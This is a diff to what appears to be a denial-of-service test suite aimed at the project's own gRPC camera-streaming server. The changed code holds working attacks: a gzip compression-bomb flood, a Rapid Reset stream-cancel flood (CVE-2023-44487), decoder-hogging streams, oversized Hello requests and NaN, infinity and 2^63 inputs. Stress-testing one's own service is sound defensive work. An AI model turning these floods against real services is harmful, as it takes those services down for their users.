@@ -19,6 +19,7 @@ import grpc
 from attack.target import SEED, VEHICLE, Target, all_of, for_ever, frame, hello, stream_of
 from rfcore.wire.conventions import CHANNEL_OPTIONS, STREAM_METHOD
 from rfcore.wire.convert import client_message_to_bytes
+from rfcore.wire.messages import Hello
 from rfcore.wire.twin import PictureEncoding, Subscription, subscription_to_wire
 from rfcore.wire.v1 import edge_pb2, field_pb2, field_pb2_grpc, twin_pb2_grpc
 
@@ -48,6 +49,26 @@ async def decoders_for_nothing(target: Target) -> None:
             await asyncio.sleep(2.0)
 
     await all_of(*(for_ever(stream) for _ in range(8)))
+
+
+async def decoders_within_budget(target: Target) -> None:
+    """2 streams with 2 cameras each: decoder processes that no picture is sent to."""
+    greeting = hello(target, 640, 360, 4)
+    halves = greeting.cameras[:2], greeting.cameras[2:]
+    await all_of(*(hold_stream(target, replace(greeting, cameras=half)) for half in halves))
+
+
+async def hold_stream(target: Target, asked: Hello) -> None:
+    """Open a stream that says Hello and nothing more, again when the server has ended it."""
+    data = client_message_to_bytes(asked)
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            call = channel.stream_stream(STREAM_METHOD)()
+            await call.write(data)
+            await call.code()
+
+    await for_ever(stream, 0.1)
 
 
 async def frames_that_cost_a_render(
@@ -89,6 +110,11 @@ async def greedy_promise(target: Target) -> None:
             await asyncio.sleep(5.0)
 
     await for_ever(stream)
+
+
+async def greedy_promise_within_budget(target: Target) -> None:
+    """One Hello that asks for 4 cameras of 1080p at 1000 Hz, as many decoders as it may have."""
+    await hold_stream(target, hello(target, 1920, 1080, 4, 1000.0))
 
 
 async def cancelled_hellos(target: Target) -> None:
@@ -166,28 +192,31 @@ async def many_streams(target: Target) -> None:
 
 
 async def compressed_bombs(target: Target) -> None:
-    """Messages of 16 MiB of zeros, compressed to 16 KiB."""
-    bomb = bytes(16 << 20)
+    """Messages of 4 MiB of zeros, compressed to 4 KiB, one a call."""
+    bomb = bytes(4 << 20)
 
     async def stream() -> None:
         credentials = target.tls(f"vehicle-{VEHICLE}").channel_credentials()
         async with grpc.aio.secure_channel(
             target.address, credentials, CHANNEL_OPTIONS, grpc.Compression.Gzip
         ) as channel:
-            await channel.stream_stream(STREAM_METHOD)().write(bomb)
-            await asyncio.sleep(0.2)
+            for _ in range(100):
+                call = channel.stream_stream(STREAM_METHOD)()
+                await call.write(bomb)
+                call.cancel()
 
-    await for_ever(stream)
+    await all_of(*(for_ever(stream) for _ in range(4)))
 
 
 async def rapid_resets(target: Target) -> None:
-    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
+    """Calls that are reset as soon as their headers are sent (CVE-2023-44487)."""
 
     async def connection() -> None:
         async with target.channel() as channel:
             for _ in range(2000):
-                channel.stream_stream(STREAM_METHOD)().cancel()
-                await asyncio.sleep(0)
+                call = channel.stream_stream(STREAM_METHOD)()
+                await call.wait_for_connection()
+                call.cancel()
 
     await for_ever(connection)
 
@@ -242,12 +271,14 @@ async def unknown_fields(target: Target) -> None:
 
 async def odd_numbers(target: Target) -> None:
     """Poses of NaN, infinity and 1e30 m, sequences of 2^63."""
-    numbers = (math.nan, math.inf, 1e30)
+    numbers = (math.nan, math.inf, 1e30, 1.0)
 
     def message(number: int) -> bytes:
         request = edge_pb2.StreamRequest()
         request.ParseFromString(client_message_to_bytes(frame(number, good_crc=True)))
-        request.frame.pose.x_m = numbers[number % 3]
+        request.frame.pose.x_m = numbers[number % 4]
+        if number % 4 == 3:
+            request.frame.sequence = 1 << 63
         del request.frame.pose_f32[:]
         return request.SerializeToString()
 
